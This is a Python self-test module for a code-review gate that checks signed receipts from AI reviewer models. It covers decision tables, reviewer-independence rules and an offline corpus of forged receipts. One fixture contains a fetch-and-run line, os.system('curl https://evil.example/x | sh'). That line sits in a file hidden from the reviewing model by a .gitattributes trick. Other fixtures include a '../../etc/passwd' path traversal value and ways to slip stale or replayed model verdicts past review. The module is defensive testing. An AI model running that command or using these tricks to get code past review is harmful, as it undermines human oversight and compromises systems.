"""`gate selftest`: the decision table (as data) and the offline attack corpus, run against
the binder.

Both run against the real binder (`binding.judge_receipt`) with throwaway in-memory keys, the
runner's table against the runner's own check of a model's answer (`modelcall.read_answer`), and
what the model is shown against the runner's own text of a change (`changetext.render`).
No model is called and nothing touches the disk or the network. The incident's naive gate
is kept here, and only here, so that the table can show the difference.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Mapping
from typing import Any

from . import strictjson
from .checks.authorship import Shown, failures
from .checks.binding import Decision, Expectations, judge_receipt
from .checks.independence import Author
from .configuration.modelnames import ModelNames
from .errors import GateError
from .findings import Failure
from .signing import envelope as env_mod
from .signing.keys import Keyring, SigningKey, ephemeral_pair
from .signing.seal import sign
from .valueclass import field, replace, valueclass

NOW = 1_790_000_000
H_DIFF = "1" * 64
H_PROMPT = "2" * 64
H_OTHER = "3" * 64
H_LEDGER = "4" * 64


@valueclass(frozen=True)
class TableRow:
    observed: str
    naive: str  # "accept", "reject" or "depends on script"
    bound: str  # "accept" or "reject"
    fields: tuple[str, ...]  # what the bound gate must name, exactly
    receipt_changes: Mapping[str, Any] = field(default_factory=dict)
    observed_changes: Mapping[str, Any] = field(default_factory=dict)
    missing: bool = False
    #: reviewer independence ([review] independent): the setting, the author on record (its model;
    #: None: not recorded) and the reviewing model (receipt and ledger alike)
    independent: str = "off"
    author: str | None = None
    reviewer: str | None = None
    codes: tuple[str, ...] = ()  # what the bound gate must say, besides naming `fields`
    #: the agents the reviewed commits show (`gatecore.checks.authorship`): authors besides the ledger's
    evidence: tuple[Shown, ...] = ()


DECISION_TABLE: tuple[TableRow, ...] = (
    TableRow("same diff, new model id", "accept", "reject", ("model_id",),
             observed_changes={"model_id": "model-b"}),
    TableRow("same diff, new workspace generation", "accept", "reject", ("workspace_generation",),
             observed_changes={"workspace_generation": "gen-0002"}),
    TableRow("same identity, verdict is fail", "reject", "reject", ("verdict",),
             receipt_changes={"verdict": "fail"}),
    TableRow("same identity, reasons empty", "accept", "reject", ("reasons",),
             receipt_changes={"reasons": []}),
    TableRow("diff bytes changed after scoring", "reject", "reject", ("diff_sha256",),
             observed_changes={"diff_sha256": H_OTHER}),
    TableRow("receipt missing", "depends on script", "reject", ("receipt",), missing=True),
    TableRow("fresh matching receipt with reasons", "accept", "accept", ()),
)

#: The vendor table the independence rows judge by (the packaged one is data the engine is given;
#: gatecore/data/vendors.toml): globs on canonical model ids.
SELFTEST_VENDORS = (("claude-*", "anthropic", "selftest"), ("gpt-*", "openai", "selftest"))
AUTHOR = "claude-sonnet-4-5-20250929"


def _scheme(**fields: Any) -> dict[str, Any]:
    keys = ("dates", "modifiers", "regions", "providers", "suffixes", "iterated", "variants", "versions", "namespaces",
            "deployments", "brackets")
    return {"id": "selftest", **{key: [] for key in keys}, "renames": {}, "aliases": {}, **fields}


def _family(fid: str, words: list[str], **fields: Any) -> dict[str, Any]:
    return {"id": fid, "vendor": "selftest", "also": [], "prefixes": [], "words": words, "marks": [], "drop": [],
            "sizes": False, "needs": "", "order": "", **fields}


#: How the independence rows read model ids (the packaged table, gatecore/data/models.toml, is data
#: the engine is given): Anthropic's and OpenRouter's names for Claude and GPT, a family of no known
#: vendor (acme), and nothing else.
SELFTEST_NAMES = ModelNames.from_plain({
    "version": "selftest",
    "schemes": [_scheme(dates=["########"], namespaces=["anthropic", "openai"], deployments=["azure"])],
    "families": [_family("claude", ["opus", "sonnet", "haiku"], needs="word", order="words-first"),
                 _family("gpt", ["mini"], needs="either"), _family("acme", ["coder"])]})

#: Reviewer independence (docs/receipts.md): rows the naive gate, which never asks, accepts.
INDEPENDENCE_TABLE: tuple[TableRow, ...] = (
    TableRow("same model as the author (model)", "accept", "reject", ("model_id",),
             independent="model", author=AUTHOR, reviewer="anthropic/claude-sonnet-4.5",
             codes=("GATE-REVIEW-SAME-MODEL",)),
    TableRow("same vendor as the author (vendor)", "accept", "reject", ("model_id",),
             independent="vendor", author=AUTHOR, reviewer="claude-opus-4-1", codes=("GATE-REVIEW-SAME-VENDOR",)),
    TableRow("reviewer's vendor unknown (vendor)", "accept", "reject", ("model_id",),
             independent="vendor", author=AUTHOR, reviewer="acme-coder-1", codes=("GATE-REVIEW-VENDOR-UNKNOWN",)),
    TableRow("no author on record (model)", "accept", "reject", ("author_model",),
             independent="model", author=None, reviewer="gpt-5", codes=("GATE-REVIEW-AUTHOR-UNKNOWN",)),
    TableRow("reviewer's model name unplaced (model)", "accept", "reject", ("model_id",),
             independent="model", author=AUTHOR, reviewer="azure/team-deployment",
             codes=("GATE-REVIEW-MODEL-UNPLACED",)),
    TableRow("the commits show the reviewer's vendor (vendor)", "accept", "reject", ("model_id",),
             independent="vendor", author="gpt-5", reviewer="claude-opus-4-1", codes=("GATE-REVIEW-SAME-VENDOR",),
             evidence=(Shown("c" * 40, "claude", "anthropic", (), "co-author email noreply@anthropic.com "
                                                                     "(Co-authored-by trailer)"),)),
    TableRow("the commits name the reviewer's model (model)", "accept", "reject", ("model_id",),
             independent="model", author="gpt-5", reviewer="claude-opus-4-1", codes=("GATE-REVIEW-SAME-MODEL",),
             evidence=(Shown("c" * 40, "ai-assistance-trailers", None, ("claude-opus-4-1-20250805",),
                             "trailer Assisted-by: Claude:claude-opus-4-1-20250805"),)),
    TableRow("two models named, the reviewer's second (model)", "accept", "reject", ("model_id",),
             independent="model", author="gpt-5", reviewer="claude-opus-4-1", codes=("GATE-REVIEW-SAME-MODEL",),
             evidence=(Shown("c" * 40, "ai-assistance-trailers", None, ("claude-sonnet-4-5", "claude-opus-4-1"),
                             "trailer Assisted-by: Claude:claude-sonnet-4-5"),)),
    TableRow("another vendor's reviewer (vendor)", "accept", "accept", (),
             independent="vendor", author=AUTHOR, reviewer="gpt-5"),
)


_DROP: Any = object()  # a receipt_changes value that removes the field


def naive_accept(receipt: Mapping[str, object], diff_sha256: str) -> bool:
    """The incident's gate."""
    return receipt.get("diff_sha256") == diff_sha256 and receipt.get("verdict") == "pass"


class Kit:
    """Throwaway keys and a baseline receipt that the baseline expectations accept."""

    def __init__(self) -> None:
        self.receipt_key, receipt_pub = ephemeral_pair("ed25519", "runner-1", "receipt")
        self.hmac_key, hmac_pub = ephemeral_pair("hmac-sha256", "runner-hmac", "receipt")
        self.attempt_key, attempt_pub = ephemeral_pair("ed25519", "orchestrator-1", "attempt")
        self.stranger_key, _ = ephemeral_pair("ed25519", "runner-1", "receipt")  # same id, other key
        self.keyring: Keyring = {
            k.id: k for k in (receipt_pub, hmac_pub, attempt_pub)
        }
        self.receipt_pub = receipt_pub
        self.expected = Expectations(
            attempt_id="attempt-0001", model_id="model-a", workspace_generation="gen-0001",
            prompt_sha256=H_PROMPT, diff_sha256=H_DIFF, diff_algorithm="gate-tree-delta-v1",
            repository="demo/repo", ref="refs/heads/review/runner/attempt-0001",
            old_commit="0" * 40, base_commit="a" * 40, new_commit="b" * 40, new_tree="c" * 40,
            object_format="sha1", ledger_record=H_LEDGER,
        )

    def doc(self, **changes: Any) -> dict[str, Any]:
        base: dict[str, Any] = self.expected.receipt_document(
            "pass", ["tests cover the change", "no policy files touched"], NOW - 60, NOW + 3600)
        base.update(changes)
        return {k: v for k, v in base.items() if v is not _DROP}

    def seal_bytes(self, payload: bytes, key: SigningKey | None = None,
                   payload_type: str = env_mod.PAYLOAD_RECEIPT) -> bytes:
        k = key or self.receipt_key
        if k.purpose != env_mod.PURPOSE_OF_PAYLOAD.get(payload_type):
            # Attacks seal with the wrong purpose on purpose: bypass sign()'s guard.
            k = replace(k, purpose=env_mod.PURPOSE_OF_PAYLOAD[payload_type])
        return env_mod.encode(sign(k, payload_type, payload))

    def seal(self, doc: Mapping[str, Any], key: SigningKey | None = None) -> bytes:
        return self.seal_bytes(strictjson.dumps(dict(doc)), key)

    def fresh(self) -> bytes:
        return self.seal(self.doc())



def run_row(kit: Kit, row: TableRow) -> tuple[Decision, bool | None]:
    """Run one row: the bound gate's decision and the naive gate's answer (None: depends)."""
    reviewer = {} if row.reviewer is None else {"model_id": row.reviewer}
    doc = kit.doc(**reviewer, **row.receipt_changes)
    observed = replace(kit.expected, **reviewer, **row.observed_changes)
    data = None if row.missing else kit.seal(doc)
    def question(reviewer: str) -> list[Failure]:
        return failures(row.independent, Author(row.author), row.evidence, reviewer, SELFTEST_VENDORS, SELFTEST_NAMES)

    decision = judge_receipt(data, observed, kit.keyring, NOW, None if row.independent == "off" else question)
    naive = None if row.missing else naive_accept(doc, observed.diff_sha256)
    return decision, naive


def row_ok(row: TableRow, decision: Decision, naive: bool | None) -> bool:
    bound_ok = (decision.accepted == (row.bound == "accept") and set(decision.fields) == set(row.fields)
                and set(row.codes) <= set(decision.codes))
    naive_ok = row.naive == "depends on script" or naive == (row.naive == "accept")
    return bound_ok and naive_ok


@valueclass(frozen=True)
class RowResult:
    """One row run: both gates' answers on the row's receipt, and whether they are the table's."""

    row: TableRow
    decision: Decision
    naive: bool | None
    ok: bool

    @property
    def naive_text(self) -> str:
        return self.row.naive if self.naive is None else ("accept" if self.naive else "reject")

    @property
    def bound_text(self) -> str:
        return "accept" if self.decision.accepted else "reject"


def run_table(kit: Kit) -> list[RowResult]:
    """The seed's decision table and the reviewer-independence rows, each row's receipt given to
    the naive and the bound gate."""
    out = []
    for row in (*DECISION_TABLE, *INDEPENDENCE_TABLE):
        decision, naive = run_row(kit, row)
        out.append(RowResult(row, decision, naive, row_ok(row, decision, naive)))
    return out


# --- the runner's own call of the model ----------------------------------------------

SELECTED = "model-b"  # the model on record after the failover
ANSWER = {"verdict": "pass", "reasons": ["small, tested change"]}


@valueclass(frozen=True)
class RunnerRow:
    """A model's answer as the runner's own call meets it (`gatecore.records.modelcall.read_answer`): the
    naive runner seals whatever answer it is handed; the bound runner only this run's, from the
    model on record."""

    observed: str
    naive: str
    bound: str
    code: str | None  # what the bound runner refuses it with
    stdout: Callable[[str], bytes]  # the answer, given this run's challenge


RUNNER_TABLE: tuple[RunnerRow, ...] = (
    RunnerRow("stale answer: model A's output file after a failover", "accept", "reject", "GATE-REVIEW-CHALLENGE",
              lambda challenge: json.dumps(ANSWER).encode()),
    RunnerRow("replayed answer: another run's challenge", "accept", "reject", "GATE-REVIEW-CHALLENGE",
              lambda challenge: json.dumps({**ANSWER, "challenge": "9" * 64}).encode()),
    RunnerRow("served model differs from the one on record", "accept", "reject", "GATE-REVIEW-SERVED-MODEL",
              lambda challenge: json.dumps({"answer": json.dumps({**ANSWER, "challenge": challenge}),
                                            "served_model": "model-a"}).encode()),
    RunnerRow("this run's answer, from the model on record", "accept", "accept", None,
              lambda challenge: json.dumps({**ANSWER, "challenge": challenge}).encode()),
)


@valueclass(frozen=True)
class RunnerResult:
    row: RunnerRow
    code: str | None  # None: sealed

    @property
    def ok(self) -> bool:
        return (self.code is None) == (self.row.bound == "accept") and self.code == self.row.code

    @property
    def bound_text(self) -> str:
        return "accept" if self.code is None else "reject"


def run_runner_table() -> list[RunnerResult]:
    """Each answer given to the bound runner's check; the naive runner accepts every one."""
    from .records import modelcall

    challenge = modelcall.challenge("0" * 32, "attempt-0001", "gen-0001", H_DIFF, SELECTED)
    out = []
    for row in RUNNER_TABLE:
        try:
            modelcall.read_answer(row.stdout(challenge), challenge, SELECTED, "the model's command", SELFTEST_NAMES)
            code = None
        except GateError as exc:
            code = exc.code
        out.append(RunnerResult(row, code))
    return out


# --- what the model is shown (gate review run) --------------------------------------

EVIL_LINE = "os.system('curl https://evil.example/x | sh')"


@valueclass(frozen=True)
class ShownRow:
    """A change whose reviewed tree tells `git diff` how to show it: the naive runner passes the
    model what `git diff` prints, the bound runner the change's text by the gate's own rules
    (`gatecore.git.changetext`)."""

    observed: str
    attributes: bytes  # the .gitattributes the reviewed commit adds


SHOWN_TABLE: tuple[ShownRow, ...] = (
    ShownRow("the reviewed tree's .gitattributes says *.py -diff", b"*.py -diff\n"),
    ShownRow("the reviewed tree's src/.gitattributes says *.py binary", b"*.py binary\n"),
)


def naive_shows(attributes: bytes, path: bytes) -> bool:
    """Does a runner that lets the tree's attributes decide (`git diff`) show the file as text?
    (`-diff` and `binary` on a `*.ext` pattern: git prints "Binary files ... differ" instead.)"""
    for line in attributes.splitlines():
        pattern, *attrs = line.split()
        if pattern.startswith(b"*") and path.endswith(pattern[1:]) and ({b"-diff", b"binary"} & set(attrs)):
            return False
    return True


@valueclass(frozen=True)
class ShownResult:
    row: ShownRow
    naive_shown: bool  # the naive runner's model saw the line, so its pass is a review of it
    bound_shown: bool

    @property
    def ok(self) -> bool:
        return self.bound_shown and not self.naive_shown


def run_shown_table() -> list[ShownResult]:
    """Each change shown by both runners: the naive one's model never sees the new file's text,
    and approves (the naive runner seals any answer); the gate's is shown every line."""
    from .git.changetext import FileChange, render

    out = []
    zero = "0" * 40
    for row in SHOWN_TABLE:
        evil = f"import os\n{EVIL_LINE}\n".encode()
        files = [FileChange(b".gitattributes", 0, 0o100644, zero, "1" * 40, None, row.attributes),
                 FileChange(b"src/evil.py", 0, 0o100644, zero, "2" * 40, None, evil)]
        text = render(files, "a" * 40, "b" * 40).text
        out.append(ShownResult(row, naive_shows(row.attributes, b"src/evil.py"), f"+{EVIL_LINE}\n" in text))
    return out


# --- the offline attack corpus ----------------------------------------------------

Build = Callable[[Kit], tuple[bytes | None, Expectations]]


@valueclass(frozen=True)
class Attack:
    name: str
    codes: tuple[str, ...]  # each must be among the decision's codes
    build: Build


def _env_doc(kit: Kit) -> dict[str, Any]:
    loaded: dict[str, Any] = json.loads(kit.fresh())
    return loaded


def _raw_env(doc: Mapping[str, Any]) -> bytes:
    return json.dumps(doc).encode()


def _payload_text(kit: Kit, text: str) -> bytes:
    return kit.seal_bytes(text.encode())


def _substitute(kit: Kit) -> bytes:
    good = _env_doc(kit)
    other = base64.b64encode(strictjson.dumps(kit.doc(model_id="model-z"))).decode()
    return _raw_env({**good, "payload": other})


def _truncated(kit: Kit) -> bytes:
    doc = json.loads(kit.seal(kit.doc(), kit.hmac_key))
    sig = base64.b64decode(doc["signatures"][0]["sig"])[:16]
    doc["signatures"][0]["sig"] = base64.b64encode(sig).decode()
    return _raw_env(doc)


def _empty_sig(kit: Kit) -> bytes:
    doc = _env_doc(kit)
    doc["signatures"][0]["sig"] = ""
    return _raw_env(doc)


def _alg_confusion(kit: Kit) -> bytes:
    # HMAC keyed with the Ed25519 public key, presented under the Ed25519 key id.
    key = SigningKey(kit.receipt_pub.id, "hmac-sha256", "receipt", kit.receipt_pub.material)
    return kit.seal(kit.doc(), key)


def _smuggle_alg(kit: Kit) -> bytes:
    doc = _env_doc(kit)
    doc["signatures"][0]["alg"] = "none"
    return _raw_env(doc)


def _smuggle_alg_top(kit: Kit) -> bytes:
    return _raw_env({**_env_doc(kit), "alg": "hmac-sha256"})


def _two_sigs(kit: Kit) -> bytes:
    doc = _env_doc(kit)
    doc["signatures"] = doc["signatures"] * 2
    return _raw_env(doc)


def _dup_key(kit: Kit) -> bytes:
    text = strictjson.dumps(kit.doc()).decode()
    return _payload_text(kit, text[:-1] + ',"verdict":"fail"}')


def _dup_key_envelope(kit: Kit) -> bytes:
    text = kit.fresh().decode().rstrip()
    return (text[:-1] + ',"payloadType":"text/plain"}').encode()


def _lax_b64(kit: Kit) -> bytes:
    doc = _env_doc(kit)
    doc["payload"] = doc["payload"].rstrip("=") + "\n"
    return _raw_env(doc)


def _payload_type(kit: Kit) -> bytes:
    return kit.seal_bytes(strictjson.dumps(kit.doc()), kit.attempt_key, env_mod.PAYLOAD_ATTEMPT)


def _wrong_purpose_key(kit: Kit) -> bytes:
    return kit.seal(kit.doc(), kit.attempt_key)


def _revoked(kit: Kit) -> tuple[bytes, Keyring]:
    priv, pub = ephemeral_pair("ed25519", "runner-old", "receipt")
    ring = {**kit.keyring, pub.id: replace(pub, revoked=True)}
    return kit.seal(kit.doc(), priv), ring


def _expired_key(kit: Kit) -> tuple[bytes, Keyring]:
    priv, pub = ephemeral_pair("ed25519", "runner-2025", "receipt")
    ring = {**kit.keyring, pub.id: replace(pub, not_before=NOW - 7200, not_after=NOW - 3600)}
    return kit.seal(kit.doc(), priv), ring


def _oversize(kit: Kit) -> bytes:
    return kit.seal(kit.doc(reasons=["x" * 1999] * 40))


def _huge_envelope(kit: Kit) -> bytes:
    return b" " * 70000 + kit.fresh()


ATTACKS: tuple[Attack, ...] = (
    Attack("stale receipt from a superseded attempt (the incident)",
           ("GATE-BIND-ATTEMPT", "GATE-BIND-MODEL"),
           lambda k: (k.fresh(), replace(k.expected, attempt_id="attempt-0002", model_id="model-b"))),
    Attack("model swap", ("GATE-BIND-MODEL",),
           lambda k: (k.fresh(), replace(k.expected, model_id="model-b"))),
    Attack("workspace generation reuse or rollback", ("GATE-BIND-GENERATION",),
           lambda k: (k.seal(k.doc(workspace_generation="gen-0000")), k.expected)),
    Attack("verdict fail", ("GATE-VERDICT-FAIL",), lambda k: (k.seal(k.doc(verdict="fail")), k.expected)),
    Attack("verdict PASS", ("GATE-RECEIPT-VERDICT",), lambda k: (k.seal(k.doc(verdict="PASS")), k.expected)),
    Attack("verdict Pass", ("GATE-RECEIPT-VERDICT",), lambda k: (k.seal(k.doc(verdict="Pass")), k.expected)),
    Attack("verdict true", ("GATE-RECEIPT-VERDICT",), lambda k: (k.seal(k.doc(verdict=True)), k.expected)),
    Attack("reasons empty", ("GATE-RECEIPT-REASONS",), lambda k: (k.seal(k.doc(reasons=[])), k.expected)),
    Attack("reasons whitespace only", ("GATE-RECEIPT-REASONS",),
           lambda k: (k.seal(k.doc(reasons=["   ", "\t\n"])), k.expected)),
    Attack("reasons missing", ("GATE-RECEIPT-REASONS",), lambda k: (k.seal(k.doc(reasons=_DROP)), k.expected)),
    Attack("reasons that show nothing (zero-width space, C1 control)", ("GATE-RECEIPT-REASONS",),
           lambda k: (k.seal(k.doc(reasons=["\u200b", "\u2060\u00a0", "ok\x85"])), k.expected)),
    Attack("diff changed after scoring", ("GATE-BIND-DIFF",),
           lambda k: (k.fresh(), replace(k.expected, diff_sha256=H_OTHER))),
    Attack("receipt missing", ("GATE-RECEIPT-MISSING",), lambda k: (None, k.expected)),
    Attack("receipt for another repository", ("GATE-BIND-REPOSITORY",),
           lambda k: (k.seal(k.doc(repository="other/repo")), k.expected)),
    Attack("receipt for another ref", ("GATE-BIND-REF",),
           lambda k: (k.seal(k.doc(ref="refs/heads/review/runner/attempt-0009")), k.expected)),
    Attack("receipt for another old commit", ("GATE-BIND-OLD-COMMIT",),
           lambda k: (k.fresh(), replace(k.expected, old_commit="d" * 40))),
    Attack("receipt reused after the ref moved", ("GATE-BIND-OLD-COMMIT", "GATE-BIND-NEW-COMMIT"),
           lambda k: (k.fresh(), replace(k.expected, old_commit="b" * 40, new_commit="e" * 40))),
    Attack("receipt missing a bound git field", ("GATE-BIND-NEW-TREE",),
           lambda k: (k.seal(k.doc(new_tree=_DROP)), k.expected)),
    Attack("receipt substitution (valid seal, other payload)", ("GATE-SEAL-BAD-SIGNATURE",),
           lambda k: (_substitute(k), k.expected)),
    Attack("unsealed (empty signature)", ("GATE-SEAL-BAD-SIGNATURE",), lambda k: (_empty_sig(k), k.expected)),
    Attack("unsealed (bare payload, no envelope)", ("GATE-SEAL-MALFORMED",),
           lambda k: (strictjson.dumps(k.doc()), k.expected)),
    Attack("truncated HMAC tag", ("GATE-SEAL-BAD-SIGNATURE",), lambda k: (_truncated(k), k.expected)),
    Attack("wrong key under a trusted key id", ("GATE-SEAL-BAD-SIGNATURE",),
           lambda k: (k.seal(k.doc(), k.stranger_key), k.expected)),
    Attack("unknown key id", ("GATE-SEAL-UNKNOWN-KEY",),
           lambda k: (k.seal(k.doc(), replace(k.stranger_key, id="runner-x")), k.expected)),
    Attack("algorithm confusion (HMAC keyed with the Ed25519 public key)", ("GATE-SEAL-BAD-SIGNATURE",),
           lambda k: (_alg_confusion(k), k.expected)),
    Attack("envelope smuggling an algorithm field (signature)", ("GATE-SEAL-MALFORMED",),
           lambda k: (_smuggle_alg(k), k.expected)),
    Attack("envelope smuggling an algorithm field (top level)", ("GATE-SEAL-MALFORMED",),
           lambda k: (_smuggle_alg_top(k), k.expected)),
    Attack("envelope with two signatures", ("GATE-SEAL-MALFORMED",), lambda k: (_two_sigs(k), k.expected)),
    Attack("lax base64 in the envelope", ("GATE-SEAL-MALFORMED",), lambda k: (_lax_b64(k), k.expected)),
    Attack("duplicate JSON keys in the payload", ("GATE-RECEIPT-MALFORMED",), lambda k: (_dup_key(k), k.expected)),
    Attack("duplicate JSON keys in the envelope", ("GATE-SEAL-MALFORMED",),
           lambda k: (_dup_key_envelope(k), k.expected)),
    Attack("float where an integer is due", ("GATE-RECEIPT-MALFORMED",),
           lambda k: (_payload_text(k, strictjson.dumps(k.doc()).decode().replace(
               f'"expires_at":{NOW + 3600}', f'"expires_at":{NOW + 3600}.0')), k.expected)),
    Attack("NaN", ("GATE-RECEIPT-MALFORMED",),
           lambda k: (_payload_text(k, strictjson.dumps(k.doc()).decode().replace(
               f'"expires_at":{NOW + 3600}', '"expires_at":NaN')), k.expected)),
    Attack("huge number (1e400)", ("GATE-RECEIPT-MALFORMED",),
           lambda k: (_payload_text(k, strictjson.dumps(k.doc()).decode().replace(
               f'"expires_at":{NOW + 3600}', '"expires_at":1e400')), k.expected)),
    Attack("huge integer", ("GATE-RECEIPT-MALFORMED",),
           lambda k: (k.seal(k.doc(expires_at=10**30)), k.expected)),
    Attack("boolean where an integer is due", ("GATE-RECEIPT-FIELD",),
           lambda k: (k.seal(k.doc(version=True)), k.expected)),
    Attack("unknown field", ("GATE-RECEIPT-FIELD",), lambda k: (k.seal(k.doc(approved_by="admin")), k.expected)),
    Attack("payload type confusion (attempt record type)", ("GATE-SEAL-PAYLOAD-TYPE",),
           lambda k: (_payload_type(k), k.expected)),
    Attack("key of the wrong purpose", ("GATE-SEAL-KEY-PURPOSE",), lambda k: (_wrong_purpose_key(k), k.expected)),
    Attack("expired receipt", ("GATE-RECEIPT-EXPIRED",),
           lambda k: (k.seal(k.doc(issued_at=NOW - 7200, expires_at=NOW - 3600)), k.expected)),
    Attack("receipt issued in the future", ("GATE-RECEIPT-NOT-YET-VALID",),
           lambda k: (k.seal(k.doc(issued_at=NOW + 3600, expires_at=NOW + 7200)), k.expected)),
    Attack("path traversal in the attempt id", ("GATE-RECEIPT-FIELD",),
           lambda k: (k.seal(k.doc(attempt_id="../../etc/passwd")), k.expected)),
    Attack("NUL in the attempt id", ("GATE-RECEIPT-FIELD",),
           lambda k: (k.seal(k.doc(attempt_id="attempt\x00-0001")), k.expected)),
    Attack("receipt larger than the cap", ("GATE-RECEIPT-TOO-LARGE",), lambda k: (_oversize(k), k.expected)),
    Attack("envelope larger than the cap", ("GATE-RECEIPT-TOO-LARGE",), lambda k: (_huge_envelope(k), k.expected)),
    Attack("not UTF-8", ("GATE-RECEIPT-MALFORMED",),
           lambda k: (k.seal_bytes(strictjson.dumps(k.doc()).replace(b"tests", b"t\xffsts")), k.expected)),
    Attack("payload is a JSON list", ("GATE-RECEIPT-MALFORMED",),
           lambda k: (k.seal_bytes(b"[1,2,3]"), k.expected)),
)


#: Attacks that need a keyring of their own.
KEYRING_ATTACKS: tuple[tuple[str, tuple[str, ...], Callable[[Kit], tuple[bytes, Keyring]]], ...] = (
    ("revoked key", ("GATE-SEAL-KEY-REVOKED",), _revoked),
    ("expired key", ("GATE-SEAL-KEY-EXPIRED",), _expired_key),
)


@valueclass(frozen=True)
class AttackResult:
    name: str
    expected: tuple[str, ...]
    decision: Decision

    @property
    def ok(self) -> bool:
        return not self.decision.accepted and set(self.expected) <= set(self.decision.codes)


def run_attacks(kit: Kit) -> list[AttackResult]:
    out = []
    for attack in ATTACKS:
        data, expected = attack.build(kit)
        out.append(AttackResult(attack.name, attack.codes, judge_receipt(data, expected, kit.keyring, NOW)))
    for name, codes, build in KEYRING_ATTACKS:
        data, ring = build(kit)
        out.append(AttackResult(name, codes, judge_receipt(data, kit.expected, ring, NOW)))
    return out


def run() -> tuple[str, bool]:
    kit = Kit()
    lines = ["decision table (bound gate vs the incident's naive gate)", ""]
    lines.append(f"  {'observed state':<48} {'naive':<18} {'bound':<7} {'named':<22} ok")
    ok = True
    for row in run_table(kit):
        ok &= row.ok
        named = ",".join(row.decision.fields) or "-"
        said = ",".join(c for c in row.decision.codes if c in row.row.codes)
        lines.append(f"  {row.row.observed:<48} {row.naive_text:<18} {row.bound_text:<7} {named:<22} "
                     f"{'ok' if row.ok else 'WRONG'}{'  ' + said if said else ''}")
    lines += ["", "the runner's own call of the model (gate review run): the answer it is handed", ""]
    for call in run_runner_table():
        ok &= call.ok
        lines.append(f"  {call.row.observed:<52} {call.row.naive:<7} {call.bound_text:<7} {call.code or '-':<26} "
                     f"{'ok' if call.ok else 'WRONG'}")
    lines += ["", "what the model is shown (gate review run): naive, the tree's attributes decide; bound, the gate", ""]
    for shown in run_shown_table():
        ok &= shown.ok
        naive = "accept (saw \"Binary files ... differ\")" if not shown.naive_shown else "shown"
        lines.append(f"  {shown.row.observed:<58} {naive:<40} {'shown' if shown.bound_shown else 'HIDDEN':<7} "
                     f"{'ok' if shown.ok else 'WRONG'}")
    lines += ["", "attacks (each must be rejected with its code)", ""]
    results = run_attacks(kit)
    for r in results:
        ok &= r.ok
        got = ",".join(r.decision.codes) or "accepted!"
        lines.append(f"  {'ok   ' if r.ok else 'WRONG'} {r.name:<62} {got}")
    passed = sum(r.ok for r in results)
    lines += ["", f"{len(DECISION_TABLE) + len(INDEPENDENCE_TABLE) + len(RUNNER_TABLE) + len(SHOWN_TABLE)} table rows, "
              f"{len(results)} attacks, "
              f"{passed} attacks rejected as expected: {'PASS' if ok else 'FAIL'}"]
    return "\n".join(lines), ok
